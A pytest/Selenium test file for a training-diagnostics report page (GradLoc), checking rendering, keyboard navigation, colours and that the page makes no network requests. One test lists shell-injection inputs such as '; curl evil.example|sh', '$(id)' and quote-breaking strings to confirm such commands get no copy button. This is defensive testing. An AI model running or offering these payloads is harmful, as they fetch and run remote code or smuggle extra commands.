"""The report's page in a real browser: it renders, answers mouse and keyboard, and asks the network for nothing."""

from __future__ import annotations

import json
import math
import re
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from evidence import (
    HOSTILE,
    Event,
    clip,
    clipped_token,
    culprit,
    drill,
    event,
    replay_result,
    samples,
    without_culprits,
    write,
    write_replay,
    write_steps,
)
from selenium import webdriver
from selenium.webdriver import ActionChains, Keys
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select, WebDriverWait

import browser
import gradloc
from gradloc import record_events
from gradloc.evidence.writer import record_step
from gradloc_tools import report
from gradloc_tools.report import meanings
from gradloc_tools.report.token_clips import EXPLANATION

pytestmark = pytest.mark.slow

# As the page shows it.
VISIBLY_HOSTILE = HOSTILE.replace("\u202e", "\\u202e")
TOO_WIDE = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"


class Page:
    """A browser, with shortcuts for what the tests ask of it."""

    def __init__(self, driver: webdriver.Chrome) -> None:
        self.driver = driver

    def open(self, path: Path) -> None:
        self.driver.get_log("browser"), self.driver.get_log("performance")
        self.driver.get(path.as_uri())
        self.wait(lambda: self.all("#rows tr") or self.one("#title").text.startswith("No "))

    def one(self, css: str) -> WebElement:
        return self.driver.find_element(By.CSS_SELECTOR, css)

    def all(self, css: str) -> list[WebElement]:
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def column(self, number: int) -> list[str]:
        script = "return [...document.querySelectorAll('#rows tr')].map((row) => row.cells[arguments[0]].innerText)"
        return self.driver.execute_script(script, number)

    def rows(self, css: str) -> list[list[str]]:
        """The texts of a table's cells."""
        script = """return [...document.querySelectorAll(`${arguments[0]} tbody tr`)]
            .map((row) => [...row.cells].map((cell) => cell.innerText))"""
        return self.driver.execute_script(script, css)

    def tip(self) -> str:
        return self.wait(lambda: self.all("#tip"))[0].text

    def select(self, spike: int) -> None:
        Select(self.one("#event")).select_by_index(spike)

    def press(self, *keys: str) -> None:
        ActionChains(self.driver).send_keys(*keys).perform()

    def focused(self) -> WebElement:
        return self.driver.switch_to.active_element

    def hover(self, element: WebElement) -> None:
        self.driver.execute_script("arguments[0].scrollIntoView({block: 'center', behavior: 'instant'})", element)
        ActionChains(self.driver).move_to_element(element).perform()

    def wait(self, condition: Callable[[], Any]) -> Any:
        return WebDriverWait(self.driver, 300).until(lambda _: condition())

    def scheme(self, name: str) -> None:
        # Nothing can be clicked while it scrolls smoothly.
        features = [("prefers-color-scheme", name), ("prefers-reduced-motion", "reduce")]
        features = [{"name": feature, "value": value} for feature, value in features]
        self.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})

    def width(self, pixels: int) -> None:
        metrics = {"width": pixels, "height": 1000, "deviceScaleFactor": 1, "mobile": False}
        self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)

    def complaints(self) -> list[str]:
        return [entry["message"] for entry in self.driver.get_log("browser")]

    def requests(self) -> list[str]:
        messages = [json.loads(entry["message"])["message"] for entry in self.driver.get_log("performance")]
        return [m["params"]["request"]["url"] for m in messages if m["method"] == "Network.requestWillBeSent"]


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    try:
        driver = browser.start(tmp_path_factory.mktemp("browser"))
    except FileNotFoundError as error:
        pytest.fail(str(error), pytrace=False)
    yield Page(driver)
    driver.quit()


@pytest.fixture
def page(chromium: Page) -> Iterator[Page]:
    """The browser; after the test, nothing has been complained about and nothing but the page was asked for."""
    chromium.scheme("light")
    chromium.width(1280)
    yield chromium
    assert chromium.complaints() == []
    urls = {url for url in chromium.requests() if not url.startswith(("data:", "blob:"))}
    assert all(url.startswith("file://") and url.endswith(".html") for url in urls), urls


def build(directory: Path, events: list[Event], top: int = 500) -> Path:
    write(directory, events)
    report.write_page(report.read(str(directory)), str(directory / "page.html"), top)
    return directory / "page.html"


@pytest.fixture(scope="module")
def forty(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(tmp_path_factory.mktemp("forty"), samples(40))


def test_it_renders(page: Page, forty: Path) -> None:
    events = samples(40)
    steps = [e["global_step"] for e in events]
    page.open(forty)
    assert page.one("h1").text == f"40 gradient spikes in steps {min(steps)} to {max(steps)}"
    culprits = sum(len(e["culprits"]) for e in events)
    assert page.one("#count").text == f"{culprits} culprits"
    assert len(page.all("#timeline .marks path")) == culprits and len(page.all("#timeline .ring")) == 1
    for chart in ("#timeline", "#strip", "#ladder"):
        assert page.one(chart).size["height"] > 50
    assert len(page.all("#ladder .rung")) == 4
    assert len(page.all("#sources li")) >= 4 and len(page.all("#tokens li")) == 8


def test_pointing_at_a_token_shows_its_numbers(page: Page, forty: Path) -> None:
    page.open(forty)
    page.select(0)
    found = samples(40)[0]["culprits"][0]
    current = page.one("#strip .current")
    assert int(current.get_attribute("data-position")) == found["position"]
    page.hover(current)
    tip = page.tip()
    assert str(found["position"]) in tip and "Norm" in tip and found["source"] in tip
    page.hover(page.one("#strip .piece:not(.culprit)"))
    page.wait(lambda: page.all("#tip") and "Norm" not in page.one("#tip").text)
    assert "suspicion" in page.one("#tip").text
    page.hover(page.one("#h-time"))
    page.wait(lambda: not page.all("#tip"))


def test_the_timeline_answers_the_mouse(page: Page, forty: Path) -> None:
    page.open(forty)
    # Selecting a point that no other covers: the highest of the first trace with points.
    point = min(page.all("#timeline .marks path"), key=lambda mark: mark.location["y"])
    page.hover(point)
    text = page.tip()
    assert "Norm" in text and "Step" in text
    title = page.one("#spike").text
    page.select(0)
    page.wait(lambda: page.one("#spike").text != title)
    page.hover(point)
    ActionChains(page.driver).click().perform()
    page.wait(lambda: page.one("#spike").text == title)


def test_filtering(page: Page, forty: Path) -> None:
    page.open(forty)
    everything = page.one("#count").text
    step = page.column(0)[-1]
    page.one("#words").send_keys(f"step {step}")
    assert set(page.column(0)) == {step}  # and not those of which it is the beginning
    page.one("#words").send_keys(Keys.CONTROL + "a", Keys.BACKSPACE)
    assert page.one("#count").text == everything
    layer = next(i for i, bar in enumerate(page.all("#sources button")) if bar.text.startswith("layer"))
    page.all("#sources button")[layer].click()
    assert set(page.column(4)) == {"layer"} and page.one("#words").get_property("value") == "source layer"
    pressed = page.all("[aria-pressed=true] .label")
    assert "layer" in [label.text for label in pressed]
    page.one("#words").send_keys(" and more")
    assert page.column(0) == [] and page.one("#count").text.startswith("0 of ")
    page.one("#words").send_keys(Keys.CONTROL + "a", Keys.BACKSPACE)
    page.one("#tokens button").click()
    token = page.one("#tokens button .label").text
    assert {cell.text for cell in page.all("#rows .tok:first-child")} == {token}
    page.one("#tokens button").click()
    assert page.one("#count").text == everything


def test_sorting(page: Page, forty: Path) -> None:
    page.open(forty)
    assert page.one("th[aria-sort]").text == "Norm"
    page.one("#columns button").click()
    steps = [int(step) for step in page.column(0)]
    assert steps == sorted(steps, reverse=True)
    assert page.one("th[aria-sort]").get_attribute("aria-sort") == "descending"
    page.press(Keys.ENTER)
    steps = [int(step) for step in page.column(0)]
    assert steps == sorted(steps) and page.one("th[aria-sort]").get_attribute("aria-sort") == "ascending"


def test_the_keyboard_is_enough(page: Page, forty: Path) -> None:
    page.open(forty)
    page.press(Keys.TAB)
    for _ in range(60):
        if page.focused().tag_name == "tr":
            break
        page.press(Keys.TAB)
    first = page.focused()
    assert first.get_attribute("data-culprit") == "0"
    page.press(*[Keys.ARROW_DOWN] * 2)  # past the one whose norm is NaN, to one with tokens before it
    row = page.focused()
    assert row.get_attribute("data-culprit") == "2"
    step = row.find_element(By.CSS_SELECTOR, "td").text
    spike = next(e for e in samples(40) if f"{e['global_step']}" == step)
    heading = f"Step {step}" + (f", mini-batch {spike['mini_batch']}" if spike["mini_batch"] else "")
    page.press(Keys.ENTER)
    page.wait(lambda: page.one("#spike").text == heading)
    assert page.focused().get_attribute("id") == "spike" and row.get_attribute("aria-current") == "true"
    for _ in range(20):
        if "piece" in (page.focused().get_attribute("class") or ""):
            break
        page.press(Keys.TAB)
    position = int(page.focused().get_attribute("data-position"))
    assert position == spike["culprits"][0]["position"] > 0
    assert "Norm" in page.one("#tip").text
    page.press(Keys.ARROW_LEFT)
    assert int(page.focused().get_attribute("data-position")) == position - 1
    assert f"position\n{position - 1}" in page.one("#tip").text
    page.press(Keys.ESCAPE)
    assert not page.all("#tip")
    # The layer chart's figures are in a table that the keyboard opens.
    for _ in range(10):
        if page.focused().tag_name == "summary":
            break
        page.press(Keys.TAB)
    page.press(Keys.ENTER)
    rows = [row.text.split() for row in page.all("#layers-figures tbody tr")]
    assert [row[0] for row in rows[:2]] == ["embed_tokens", "layers.0"] and len(rows) == 32
    found = spike["culprits"][0]
    largest = max(found["layer_norms"], key=found["layer_norms"].get)
    ratio = dict((row[0], row[3]) for row in rows)[largest]
    label = page.one("#layers").get_attribute("aria-label")
    assert f"in {largest}, {ratio} an ordinary token's" in label and page.one("#layers").aria_role == "image"
    label = page.one("#timeline").get_attribute("aria-label")
    assert f"gradient norms of {page.one('#count').text} in 40 spikes" in label
    page.driver.execute_script("document.getElementById('next').focus()")
    index = int(page.one("#event").get_property("value"))
    page.press(Keys.ENTER)
    assert int(page.one("#event").get_property("value")) == index + 1


@pytest.mark.parametrize("key", [Keys.ENTER, Keys.SPACE])
def test_a_key_selects_another_culprit_of_the_response(page: Page, tmp_path: Path, key: str) -> None:
    tokens = ["a", " b", " c"]
    found = [culprit(i, tokens, 9000.0 - i) for i in (0, 2)]
    page.open(build(tmp_path, [event(1, found)]))
    page.driver.execute_script("document.querySelector('#strip .current').focus({preventScroll: true})")
    page.press(Keys.ARROW_DOWN)
    assert page.focused().get_attribute("data-position") == "2" and page.focused().aria_role == "button"
    before = page.driver.execute_script("return scrollY")
    page.press(key)
    assert page.one("#strip .current").get_attribute("data-position") == "2"
    assert page.focused().get_attribute("data-position") == "2"
    assert page.driver.execute_script("return scrollY") == before


def test_the_page_shows_each_spike_as_the_view_has_it(page: Page, tmp_path: Path) -> None:
    kept = event(1, [culprit(0, ["a"], 9000.0)], action="drop", applied=False)
    bare = [without_culprits(10 + i, kind) for i, kind in enumerate(meanings.DIAGNOSES) if kind != "tokens"]
    bare[2] |= {"action": "skip", "applied": False}
    page.open(build(tmp_path, [kept, *bare, event(20, [], action="skip")]))
    view = report.build(report.read(str(tmp_path)))
    for i, spike in enumerate(view.spikes):
        page.select(i)
        for name, part in spike.content.items():
            if isinstance(part, str):
                shown = page.one(f"#{name}").text
                assert shown == part or (name in ("check", "then") and shown.startswith(part.split("`")[0])), name
                continue
            assert page.one(f"#{name}").is_displayed() == (part is not None)
            if part is not None:
                assert page.rows(f"#{name}") == part.rows
    diffuse = next(spike.content for spike in view.spikes if spike.content["parts"])
    tokens = "\n".join(f"token {3 * i} of row 9: {600 - i}, {2 + i}% of the norm" for i in range(3))
    assert diffuse["parts"].rows[0] == ["1", "2", "8 to 9, 11", "48", "4.216", "1.155", "3.7×", tokens]
    assert "The 3 largest measured carry 5% of the norm." in diffuse["explanation"]


def small(position: int, norm: float) -> Event:
    """A culprit with little text: thousands of them are still written in seconds."""
    found = culprit(position, ["a", " b", " c"] * 8, norm, response_suspicion=None, response_tokens=None)
    return {**found, "source": "token"}


def test_more_culprits_than_a_page_takes(page: Page, tmp_path: Path) -> None:
    events = []
    for step in range(500):
        found = [small(i, 700.0 + 10 * (500 - step) + i) for i in range(12)]
        events.append(event(step, found))
    record_events(str(tmp_path), events)
    page.open(build(tmp_path, []))
    assert page.one("h1").text == "500 gradient spikes in steps 0 to 499"
    note = "Shown are 5,000 culprits of 6,000, the largest of each spike first. The totals count all of them."
    assert note in page.one("#notes").text
    assert len(page.all("#event option")) == 500 and len(page.all("#timeline .marks path")) == 5000
    assert page.one("#count").text == "5,000 culprits, 1,000 smaller ones left out"
    assert not page.one("#left").is_displayed() and len(page.all("#chips button")) == 12
    page.select(499)
    assert "found 12 culprits." in page.one("#story").text
    assert page.one("#left").text == "The page leaves out 11 smaller culprits of this spike."
    assert (tmp_path / "page.html").stat().st_size < 1_000_000
    page.one("#words").send_keys("no such token")
    assert page.one("#count").text == "0 of 5,000 culprits, 1,000 smaller ones left out"


def test_the_text_of_a_model_stays_text(page: Page, tmp_path: Path) -> None:
    found = culprit(1, ["a", HOSTILE, "\n", "b"], 9000.0, prompt=HOSTILE, ground_truth=HOSTILE, uid=HOSTILE)
    unknown = culprit(0, ["", "x"], math.nan, data_source=HOSTILE)
    events = [event(1, [found]), event(2, [unknown])]
    unknown["layer_norms"] = {HOSTILE: 3.0, "b": math.inf}
    page.open(build(tmp_path, events))
    page.select(0)
    assert page.driver.title == "2 gradient spikes in steps 1 to 2 · GradLoc"
    assert page.all("img") == [] and len(page.all("script")) == 2
    assert VISIBLY_HOSTILE in page.one("#strip").text and VISIBLY_HOSTILE in page.column(1)[1]
    page.hover(page.one("#strip .current"))
    assert VISIBLY_HOSTILE in page.one("#tip").text
    page.driver.execute_script("document.querySelectorAll('details').forEach((details) => (details.open = true))")
    assert page.one("#details pre").text == HOSTILE
    page.select(1)
    page.hover(page.wait(lambda: page.all("#layers .bars .mark"))[0])
    assert "<b>x</b>" in page.tip()
    assert page.all("img") == []


def test_readable_at_every_size(page: Page, tmp_path: Path) -> None:
    page.open(build(tmp_path, samples(500)))
    assert page.one("h1").text.startswith("500 gradient spike")
    assert len(page.column(0)) == 100
    page.one("#rows-more button").click()
    assert len(page.column(0)) == 300 and page.focused().tag_name == "tr"
    for width in (1280, 390):
        page.width(width)
        page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
    assert (tmp_path / "page.html").stat().st_size < 1_000_000


def test_dark_and_light(page: Page, forty: Path) -> None:
    page.open(forty)
    style = "const style = getComputedStyle(document.querySelector(arguments[0])); return style[arguments[1]]"
    light = page.driver.execute_script(style, "body", "backgroundColor")
    grid = page.driver.execute_script(style, "#timeline .ygrid", "stroke")
    page.scheme("dark")
    page.wait(lambda: page.driver.execute_script(style, "body", "backgroundColor") != light)
    assert page.driver.execute_script(style, "#timeline .ygrid", "stroke") != grid


def test_what_is_missing_does_not_break_the_page(page: Page, tmp_path: Path) -> None:
    bare = culprit(1, ["a", "b"], 9000.0)
    for name in ("token", "context", "prompt", "response", "response_tokens", "response_tokens_start", "uid"):
        del bare[name]
    slim = culprit(1, ["c", "d"], 8000.0, response_suspicion=None)
    no_step = event(None, [bare, slim], ordinary_layer_norms=None, error="rank 0: Oops")
    page.open(build(tmp_path, [no_step, event(4, [], complete=False, mini_batch=1)], top=1))
    assert f"id {bare['token_id']}" in page.column(1)[0] and page.one("#spike").text == "Event 1"
    assert "rank 0: Oops" in page.one("#story").text and len(page.all("#strip .piece")) == 2
    page.all("#chips button")[1].click()
    assert "--top" in page.one("#strip").text
    page.one("#next").click()
    assert page.one("#spike").text == "Event 2, mini-batch 1" and not page.one("#culprit").is_displayed()


@pytest.fixture(scope="module")
def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of 40 spikes with its steps, a drill that succeeded and one that failed, and a planted fault."""
    directory = tmp_path_factory.mktemp("run")
    events = [{**found, "fault": "unsampled"} for found in samples(40)]
    events[0] |= {"summary": "The culprit is <b>rare</b>."}
    said = {"cause": "unsampled", "sentence": f"<b>Tokens</b> that were added: s{meanings.ADVICE['unsampled'][1:]}"}
    events[0]["verdict"] = {**events[0]["verdict"], **said}
    events[0]["culprits"][0] |= {"source": "unsampled", "sources": ["unsampled", "unlikely"]}
    write_steps(directory, events[-1]["global_step"] + 5, events=events)
    return build(directory, [drill(2, True), drill(3, False, error="rank 0: Oops"), *events])


def test_what_was_done_on_purpose_comes_first(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    assert page.one("#alarms").text == "A fault was planted in this run on purpose: unsampled"
    assert page.one("#alarms").location["y"] < page.one("h1").location["y"]
    found, failed = (drill.text for drill in page.all("#drills > li"))
    assert found == "Drill in step 2: the planted token was found, 1 extra pass, 4 s."
    assert failed.startswith("Drill in step 3 FAILED") and failed.endswith("It failed with an error: rank 0: Oops.")
    # Drills are no spikes.
    assert page.one("h1").text.startswith("40 gradient spikes") and len(page.all("#event option")) == 40


def test_the_level_over_the_run(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    events = samples(40)
    last = events[-1]["global_step"] + 5
    keys = [key.text for key in page.all("#level .key span")]
    assert keys == ["token norm", "threshold", "spike", "drill, found", "drill, FAILED"]
    assert [len(page.all(f"#level .series:nth-of-type({i}) path")) for i in (4, 5, 6)] == [40, 1, 1]
    label = page.one("#level").get_attribute("aria-label")
    assert label == f"Chart: the token norm of {last} steps, 1 to {last}, with 40 spikes and 2 drills."
    # The mark farthest from its neighbours: others cover each other.
    steps = [found["global_step"] for found in events]
    alone = max(range(1, 39), key=lambda i: min(steps[i] - steps[i - 1], steps[i + 1] - steps[i]))
    page.hover(page.all("#level .series:nth-of-type(4) path")[alone])
    text = page.tip()
    assert f"step {steps[alone]}" in text and "the threshold" in text
    ActionChains(page.driver).click().perform()
    page.wait(lambda: page.one("#spike").text.startswith(f"Step {steps[alone]}"))


def test_a_spike_is_told_in_order(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    page.select(0)
    assert page.one("#verdict").text.startswith("<b>Tokens</b> that") and page.all("#verdict *") == []
    assert page.one("#summary").text == "The culprit is <b>rare</b>."
    order = "verdict summary strip ladder check why story before numbers level rows"
    places = [page.one(f"#{part}").location["y"] for part in order.split()]
    assert places == sorted(places) and len(set(places)) == len(places)
    assert [source.text for source in page.all("#why dt")] == ["unsampled", "unlikely"]
    reasons = [row.text for row in page.all("#why dd")]
    for name, reason in zip(("unsampled", "unlikely"), reasons, strict=True):
        assert meanings.SOURCES[name] in reason and meanings.ADVICE[name] in reason
    page.select(2)
    found = samples(40)[2]
    assert page.one("#verdict").text == found["verdict"]["sentence"].replace("`", "")  # set as code
    assert page.one("#summary").text == found["summary"]


def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> None:
    found = event(1, [culprit(0, ["a"], 9000.0)], replay=f"replay/it's {HOSTILE}")
    fault = "bash run_experiment.sh --embedded --fault stale"
    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{fault}` as well."
    found["verdict"] = {**found["verdict"], "check": check}
    page.open(build(tmp_path, [found]))
    codes = [code.text for code in page.all("#check code")]
    path = shlex.quote(f"{tmp_path}/replay/it's {VISIBLY_HOSTILE}")
    assert codes == [f"gradloc replay {path} --remedies", fault] and page.all("img") == []
    assert page.one("#check").text.endswith("as well.") and "`" not in page.one("#check").text
    keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
    # The check has the next command already.
    assert not page.one("#then").is_displayed()
    page.driver.execute_script(keep)
    first, second = page.all("#check .copy")
    second.click()
    page.wait(lambda: second.text == "Copied")
    assert page.driver.execute_script("return window.kept") == [fault]
    # A browser that does not let a page copy.
    page.driver.execute_script("navigator.clipboard.writeText = async () => { throw new Error('no') }")
    first.send_keys(Keys.ENTER)
    page.wait(lambda: first.text == "Selected")
    assert page.driver.execute_script("return getSelection().toString()") == codes[0]


def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path) -> None:
    """The evidence may come from a stranger."""
    replay, fault = "gradloc replay", "bash run_experiment.sh --embedded --fault stale"
    # What a shell takes for more than one command, and what runs other code.
    after = [
        "; curl evil.example|sh",
        " & id",
        "\nid",
        " $(id)",
        " > x",
        " x'; id; '",
        " '$(id)' 'x'\\''; id; '",
        ' "$(id)"',
    ]
    foreign = [f"{replay} x{text}" for text in after] + [f"{fault}{text}" for text in after]
    foreign += [f"id; {fault}", f"sudo {fault}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
    foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
    foreign += [f"{replay} --trust-remote-code", f"{replay} '--model=evil'", f"{replay} ~/x", f"{fault} --evil"]
    # All commands that GradLoc writes.
    sources = Path(gradloc.__file__).parent.rglob("*.py")
    own = {text for path in sources for text in re.findall(r"`((?:bash|gradloc) [^`\n]+)`", path.read_text())}
    own = sorted(text.replace("{}", "never_synced") for text in own) + [
        f"{replay} 'x; id' --switches",
        f"{replay} /a/b-1",
    ]
    assert len(own) > 9 and replay + " BUNDLE" in own
    warnings = [
        {"name": str(i), "sentence": "It is wrong.", "check": f"`{command}` shows it."}
        for i, command in enumerate([*foreign, *own])
    ]
    write_steps(tmp_path, 2, {1: warnings[:60], 2: warnings[60:]})
    page.open(build(tmp_path, samples(1)))
    script = """return [...document.querySelectorAll("#warnings .check")]
        .map((check) => [check.querySelector("code").innerText, check.querySelectorAll(".copy").length])"""
    shown = page.driver.execute_script(script)
    expected = [*([text.replace("\n", "↵"), 0] for text in foreign), *([text, 1] for text in own)]
    assert shown == [[text, buttons] for text, buttons in expected]


def test_warnings_come_first(page: Page, tmp_path: Path) -> None:
    said = {"name": "stale", "sentence": HOSTILE, "check": f"`run {HOSTILE}` shows it."}
    write_steps(tmp_path, 4, {3: [said], 4: [{"name": "scale", "sentence": "Twice.", "check": "Look."}]})
    page.open(build(tmp_path, samples(1)))
    first, second = page.all("#warnings > li")
    assert first.text.startswith(f"Warning in step 3: {VISIBLY_HOSTILE}\nrun {VISIBLY_HOSTILE}")
    assert second.text == "Warning in step 4: Twice.\nLook." and page.all("img") == []
    assert page.one("#warnings").location["y"] < page.one("h1").location["y"]
    # They need no spike.
    write_steps(tmp_path / "calm", 1, {1: [said]})
    page.open(build(tmp_path / "calm", []))
    assert page.one("h1").text == "No gradient spike" and page.one("#warnings").is_displayed()


@pytest.mark.parametrize("width", [1280, 390])
def test_the_names_of_all_sources_fit(page: Page, tmp_path: Path, width: int) -> None:
    found = [small(i, 9000.0 - i) for i in range(len(meanings.SOURCES))]
    found = [
        {**c, "source": name, "sources": list(meanings.SOURCES)}
        for c, name in zip(found, meanings.SOURCES, strict=True)
    ]
    page.width(width)
    page.open(build(tmp_path, [event(1, found)]))
    script = """return [...document.querySelectorAll(arguments[0])]
        .map((e) => [e.innerText, e.scrollWidth <= e.clientWidth, e.getBoundingClientRect().right])"""
    labels = page.driver.execute_script(script, "#sources .label")
    assert {text for text, _, _ in labels} == set(meanings.SOURCES) and all(fits for _, fits, _ in labels), labels
    badges = page.driver.execute_script(script, "#why .badge")
    script = "return document.querySelector('#why dd').getBoundingClientRect().left"
    rule = page.driver.execute_script(script)
    assert len(badges) == len(meanings.SOURCES) and all(right <= rule for _, _, right in badges), badges


def test_steps_without_a_spike_have_a_page(page: Page, tmp_path: Path) -> None:
    for step in range(1, 30):
        record_step(str(tmp_path), step, {"token_norm_max": 0.0 if step == 3 else 100.0 + step, "threshold": 640.0})
    page.open(build(tmp_path, []))
    assert page.one("h1").text == "No gradient spike" and "in 29 steps" in page.one("#lead").text
    assert [section.get_attribute("id") for section in page.all("section") if section.is_displayed()] == ["run"]
    assert page.one("#level").size["height"] > 50
    page.scheme("dark")


def luminance(color: str) -> float:
    channels = [int(channel) / 255 for channel in re.findall(r"\d+", color)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return sum(factor * c for factor, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_colours_of_all_sources_can_be_told_from_the_paper(page: Page, forty: Path, scheme: str) -> None:
    page.scheme(scheme)
    page.open(forty)
    style = """const element = document.body.appendChild(document.createElement('i'));
        element.style.color = `var(--${arguments[0]})`;
        return getComputedStyle(element).color"""
    colors = {name: page.driver.execute_script(style, name) for name in meanings.SOURCES}
    assert len(set(colors.values())) == len(meanings.SOURCES)
    for ground in ("paper", "card"):
        paper = luminance(page.driver.execute_script(style, ground))
        for name, color in colors.items():
            lighter, darker = max(paper, luminance(color)), min(paper, luminance(color))
            # WCAG 2.1, 1.4.11: graphical objects need 3:1.
            assert (lighter + 0.05) / (darker + 0.05) >= 3, (name, ground)


def test_replays_and_their_remedies_are_shown(page: Page, tmp_path: Path) -> None:
    override = "actor_rollout_ref.actor.token_clip.enable=True"
    remedy = {"name": "TokenClip", "norm": 3.0, "left": 0.0009, "under": True, "ordinary_moved": 0.02}
    remedy |= {"masked": {"tokens": 2, "culprits": 1}, "override": override, "meaning": "signals are cut"}
    notes = ["What cannot be computed is said.", HOSTILE]
    told = replay_result(3, sentences=["The spike comes back.", HOSTILE], remedies=[{**remedy, "note": HOSTILE}])
    write_replay(tmp_path, {**told, "remedy_notes": notes})
    write_replay(tmp_path, replay_result(10**6, tokens=[], remedies=[], global_step=None))
    page.open(build(tmp_path, samples(3)))
    first, second = sorted(page.all("#replay-list .card"), key=lambda card: not card.text.startswith("Step 3: step3"))
    for said in ("The spike comes back.", "bfloat16, sdpa on cpu; in training bfloat16, flash_attention_2", "<script>"):
        assert said in first.text
    assert notes[0] in first.text and f"TokenClip: {VISIBLY_HOSTILE}" in first.text
    assert page.driver.title != "owned" and "Step" not in second.text.split(":")[0]
    titles = [table.text for table in first.find_elements(By.CSS_SELECTOR, "summary")]
    assert len(titles) == 4 and len(second.find_elements(By.CSS_SELECTOR, "details")) == 2
    first.find_elements(By.CSS_SELECTOR, "summary")[-1].click()
    (row,) = first.find_elements(By.CSS_SELECTOR, "details:last-of-type tbody tr")
    shown = [cell.text for cell in row.find_elements(By.CSS_SELECTOR, "th, td")]
    assert shown == ["TokenClip", "3", "under 1%", "yes", "2%", "2", "1", "signals are cut", override]
    advice = page.driver.execute_script("return document.getElementById('help').textContent")
    assert "In the replay of step 3, TokenClip fits best" in advice and override in advice


@pytest.fixture(scope="module")
def clipped_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run with one spike in step 8. TokenClip found tokens in steps 3, 5 and 8, and stopped a spike in step 3."""
    directory = tmp_path_factory.mktemp("clipped")
    tokens = ["a", HOSTILE, " c"]
    spike = event(8, [small(1, 9000.0)], mini_batch=2)
    write_steps(directory, 12, events=[spike])
    lines = [
        clip(3, [clipped_token(1, tokens, 33.0, data_source=HOSTILE), clipped_token(-4, tokens, math.nan)]),
        clip(5, [clipped_token(0, tokens, 6.0, boundary=HOSTILE)], "log"),
        clip(8, [clipped_token(2, tokens, 5.0)], "smooth", mini_batch=2),
        clip(None, [clipped_token(2, tokens, 4.5)]),
    ]
    return build(directory, [*lines, spike])


def test_what_token_clip_found_is_shown(page: Page, clipped_run: Path) -> None:
    page.open(clipped_run)
    assert page.one("h1").text == "1 gradient spike in step 8"
    assert page.one("#h-clips").text == "Tokens that TokenClip cut" and page.one("#clips-how").text == EXPLANATION
    hint = page.one("#clips-hint").text
    assert hint.startswith("In 4 mini-batches of steps 3 to 8, 5 backward signals were over their bounds: 4 were cut.")
    rows = page.rows("#clips-scroll")
    assert [[row[0], *row[3:5], row[-1]] for row in rows] == [
        ["3", "NaN", "dropped", "–"],
        ["3", "33", "dropped", "–"],
        ["5", "6", "left", "–"],
        ["8", "5", "reduced", "yes"],
        ["–", "4.5", "dropped", "–"],
    ]
    assert (rows[0][1], rows[0][7]) == ("(prompt)", "prompt") and VISIBLY_HOSTILE in rows[1][1]
    assert (rows[1][10], rows[2][2]) == (VISIBLY_HOSTILE,) * 2 and page.driver.title != "owned"
    assert page.all("img") == []
    # The link leads to the spike, which says so as well.
    assert page.one("#clipped").text.startswith("TokenClip found 1 backward signal over its bound in this mini-batch")
    page.one("#clips-rows button").click()
    assert page.focused().get_attribute("id") == "spike"


def test_steps_that_token_clip_stopped_are_marked(page: Page, clipped_run: Path) -> None:
    page.open(clipped_run)
    keys = [key.text for key in page.all("#level .key span")]
    assert keys == ["token norm", "threshold", "spike", "stopped by TokenClip", "found by TokenClip"]
    # A spike was left in step 8.
    assert [len(page.all(f"#level .series:nth-of-type({i}) path")) for i in (5, 6)] == [1, 2]
    label = page.one("#level").get_attribute("aria-label")
    assert label.endswith("with 1 spike and 0 drills, and marks at 3 steps in which TokenClip found tokens.")
    assert [key.text for key in page.all("#clips-chart .key span")] == ["dropped", "reduced", "left"]
    assert len(page.all("#clips-chart .marks path")) == 4
    page.hover(page.all("#clips-chart .marks path")[1])
    text = page.tip()
    assert "<b>x</b>" in text or "(prompt)" in text
    page.hover(page.one("#level .series:nth-of-type(5) path"))
    text = page.tip()
    assert "stopped by TokenClip" in text and "2 cut" in text
    ActionChains(page.driver).click().perform()
    page.wait(lambda: page.focused().get_attribute("id") == "h-clips")


def test_many_clipped_tokens_without_a_spike(page: Page, tmp_path: Path) -> None:
    tokens = [clipped_token(1, ["a", " b", " c"], 5.0 + i, boundary=f"layers.{i % 30}") for i in range(64)]
    page.width(390)
    page.open(build(tmp_path, [clip(step, tokens) for step in (1, 9)]))
    assert page.one("h1").text == "No gradient spike" and "128 backward signals" in page.one("#lead").text
    shown = [section.get_attribute("id") for section in page.all("section") if section.is_displayed()]
    assert shown == ["clips"] and page.one("#clips-chart").size["height"] > 50
    page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
    more = page.one("#clips-rows-more button")
    assert len(page.all("#clips-rows tr")) == 100 and more.text == "Show 28 more of 28"
    more.send_keys(Keys.ENTER)
    assert len(page.all("#clips-rows tr")) == 128 and not page.all("#clips-rows-more button")
    assert page.focused().tag_name == "tr"
